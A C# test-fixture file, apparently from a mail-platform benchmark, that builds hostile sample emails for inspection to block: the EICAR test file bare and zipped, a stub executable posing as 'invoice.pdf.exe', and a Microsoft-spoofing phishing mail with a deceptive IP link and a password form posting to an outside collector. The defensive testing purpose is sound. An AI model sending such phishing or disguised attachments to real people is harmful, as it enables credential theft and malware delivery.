using System.IO.Compression;
using System.Text;

namespace Platform.Benchmarks.Mails;

/// <summary>
/// Mails that any inspection must stop, made here and harmless: the EICAR test file (bare and in an archive), a program
/// that passes for a document, and a page that asks for a password in another's name. Each carries strong and plain signs,
/// since they test the way of a stopped mail and not how good the detectors are.
/// </summary>
internal static class HostileMails
{
    // In two pieces, so that no scanner takes this program for a virus.
    private static readonly string Eicar = @"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    public static byte[] EicarAttachment(string id, IReadOnlyList<string> recipients) =>
        WithAttachment(id, recipients, "Order 4471", "See the order in the attachment.", "order.com", "application/octet-stream", Encoding.ASCII.GetBytes(Eicar));

    public static byte[] EicarInArchive(string id, IReadOnlyList<string> recipients)
    {
        using var archive = new MemoryStream();
        using (var zip = new ZipArchive(archive, ZipArchiveMode.Create, leaveOpen: true))
        using (var entry = zip.CreateEntry("papers/eicar.com").Open())
            entry.Write(Encoding.ASCII.GetBytes(Eicar));
        return WithAttachment(id, recipients, "Papers", "The papers you asked for.", "papers.zip", "application/zip", archive.ToArray());
    }

    public static byte[] DisguisedProgram(string id, IReadOnlyList<string> recipients)
    {
        // The header of a Windows program and nothing to run behind it.
        var program = new byte[2_048];
        "MZ"u8.CopyTo(program);
        program[0x3c] = 0x80;
        "PE\0\0"u8.CopyTo(program.AsSpan(0x80));
        "This program cannot be run in DOS mode."u8.CopyTo(program.AsSpan(0x4e));
        return WithAttachment(id, recipients, "Unpaid invoice, final notice", "Pay the attached invoice today or your account will be closed.", "invoice.pdf.exe", "application/pdf", program);
    }

    public static byte[] CredentialPhishing(string id, IReadOnlyList<string> recipients) => Utf8(
        $"""
        From: "Microsoft account team account-security@microsoft.com" <secure@xn--mcrosoft-o2a.example>
        Reply-To: <collect.box1988@gmail.com>
        To: {string.Join(", ", recipients)}
        Subject: Urgent: your account is suspended, verify your password now
        Date: Tue, 24 Nov 2026 10:00:00 +0900
        Message-ID: <{id}>
        MIME-Version: 1.0
        Content-Type: text/html; charset=utf-8
        Content-Transfer-Encoding: 8bit

        <html><body><p>Your mailbox is suspended because of unusual sign-in activity. Verify your account within 24 hours
        or it will be deleted permanently.</p>
        <p><a href="http://microsoft.com@203.0.113.7/login.php">https://login.microsoftonline.com/</a></p>
        <form action="http://203.0.113.7/collect.php" method="post">Password: <input type="password" name="pw"><input type="submit" value="Verify your account"></form>
        </body></html>

        """);

    private static byte[] WithAttachment(string id, IReadOnlyList<string> recipients, string subject, string text, string fileName, string type, byte[] content) => Utf8(
        $"""
        From: Order desk <mika@partner.example>
        To: {string.Join(", ", recipients)}
        Subject: {subject}
        Date: Tue, 24 Nov 2026 10:00:00 +0900
        Message-ID: <{id}>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="part"

        --part
        Content-Type: text/plain; charset=us-ascii

        {text}
        --part
        Content-Type: {type}; name="{fileName}"
        Content-Disposition: attachment; filename="{fileName}"
        Content-Transfer-Encoding: base64

        {Convert.ToBase64String(content, Base64FormattingOptions.InsertLineBreaks)}
        --part--

        """);

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text.ReplaceLineEndings("\r\n"));
}
